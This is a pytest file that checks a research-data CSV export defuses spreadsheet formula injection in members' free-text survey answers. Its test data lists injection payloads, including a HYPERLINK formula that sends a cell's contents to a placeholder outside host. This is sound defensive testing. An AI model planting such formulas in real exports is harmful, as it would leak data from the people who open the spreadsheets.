"""Words from people land in CSV cells: a spreadsheet opening the export must show them, never run them."""

from __future__ import annotations

import csv
import io
import zipfile

import pytest

from circles.domain.research.columns import Column, Table
from circles.services.research.export_tables import PERSON
from circles.services.research.package import package_files, zip_bytes

FORMULAS = [
    '=HYPERLINK("http://example.org/x?d="&A1,"Open")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


def written(words: str) -> dict[str, str]:
    """The one row of a survey table whose free-text answer is `words`, as a spreadsheet would read it."""
    table = Table(
        "survey_answers",
        "Survey answers",
        (PERSON, Column("own_words", "string", "what the member wrote, shared for research")),
        [("P-ABCDEFGH2345", words)],
    )
    files = package_files("spring", "1", [table], 1)
    with zipfile.ZipFile(io.BytesIO(zip_bytes(files))) as archive:
        [row] = csv.DictReader(io.StringIO(archive.read("survey_answers.csv").decode(), newline=""))
    return row


@pytest.mark.parametrize("words", FORMULAS)
def test_a_free_text_answer_that_starts_like_a_formula_is_written_as_text(words: str) -> None:
    cell = written(words)["own_words"]
    assert cell[0] not in "=+-@\t\r"
    # The words whole, behind the mark spreadsheets read as "this is text" (line breaks as the CSV's own).
    assert cell == "'" + words.replace("\r", "\n")


def test_ordinary_words_and_generated_values_are_written_as_they_are() -> None:
    row = written("We met twice - it helped = good")
    assert row == {"person_id": "P-ABCDEFGH2345", "own_words": "We met twice - it helped = good"}


def test_an_answer_over_several_lines_stays_one_row_whatever_its_line_breaks() -> None:
    assert written("first line\rsecond\r\nthird")["own_words"] == "first line\nsecond\nthird"
